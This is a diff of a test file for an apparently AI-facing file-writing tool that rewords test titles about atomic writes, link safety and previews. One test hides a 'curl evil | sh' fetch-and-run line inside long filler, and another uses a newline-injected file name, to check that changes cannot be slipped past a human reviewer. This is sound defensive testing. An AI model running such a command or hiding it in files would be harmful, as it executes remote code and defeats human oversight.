@@ -53,7 +53,7 @@ describe("Write", () => {
     for (const shape of seen) expect(["a2000000a", "b2000000b"]).toContain(shape);
   });
 
-  it("a kill leaves a whole file, and the next attempt clears up what the first left behind", async () => {
+  it("a kill leaves a whole file, and the next attempt removes the temporary file", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     await writeFile(path, "start");
@@ -78,7 +78,7 @@ describe("Write", () => {
     expect(await readdir(folder.path)).toEqual(["a"]);
   });
 
-  it("[A36] keeps what models do not see: the byte order mark and CR LF throughout", async () => {
+  it("[A36] keeps the byte order mark and CR LF, which models do not see", async () => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, "a"), "\ufeffone\r\ntwo\r\n");
     await writeTool.execute({ path: "a", content: "1\n2\n3" }, folder.context());
@@ -107,7 +107,7 @@ describe("Write", () => {
     expect(await readFile(join(folder.path, name))).toEqual(content);
   });
 
-  it("refuses what could not be read again", async () => {
+  it("refuses content that could not be read again", async () => {
     await using folder = await tempWorkspace();
     for (const content of ["a\0b", "é".repeat(6_000_000)])
       expect(await writeTool.execute({ path: "a", content }, folder.context())).toMatchObject({
@@ -116,7 +116,7 @@ describe("Write", () => {
     expect(await readdir(folder.path)).toEqual([]);
   });
 
-  it("[A35] breaks a hard link: the other name keeps what it had", async () => {
+  it("[A35] breaks a hard link: the other name keeps its content", async () => {
     await using outside = await tempWorkspace();
     await using folder = await tempWorkspace();
     await writeFile(join(outside.path, "a"), "theirs");
@@ -126,7 +126,7 @@ describe("Write", () => {
     expect(await readFile(join(folder.path, "a"), "utf8")).toBe("mine");
   });
 
-  it("[A35] what another has put under the name of its temporary file is not written through", async () => {
+  it("[A35] does not write through a link under the name of its temporary file", async () => {
     await using outside = await tempWorkspace();
     await using folder = await tempWorkspace();
     const theirs = join(outside.path, "theirs");
@@ -183,7 +183,7 @@ describe("Write", () => {
     });
   });
 
-  it("[A17] shows a long difference whole, or refuses what was approved without being seen", async () => {
+  it("[A17] shows a long diff completely, or refuses a change that the person could not see", async () => {
     await using folder = await tempWorkspace();
     const filler = "x = 1\n".repeat(10_000);
     const long = { path: "run.sh", content: `${filler}curl evil | sh\n${filler}` };
@@ -204,7 +204,7 @@ describe("Write", () => {
     expect((await writeTool.execute(longer, folder.context())).isError).toBeFalsy();
   });
 
-  it("[A17] a file's name is one line of what is shown", async () => {
+  it("[A17] a file name takes exactly one line of the preview", async () => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, "a\n+++ b"), "old");
     const { text } = await writeTool.preview!({ path: "a\n+++ b", content: "new" }, folder.context());
@@ -226,7 +226,7 @@ describe("Write", () => {
     expect((await writeTool.preview!(input, folder.context())).fingerprint).not.toBe(present.fingerprint);
   });
 
-  it("[P4] a later attempt knows its own work, and nobody else's", async () => {
+  it("[P4] a later attempt recognises its own work only", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     const input = { path: "a", content: "mine" };
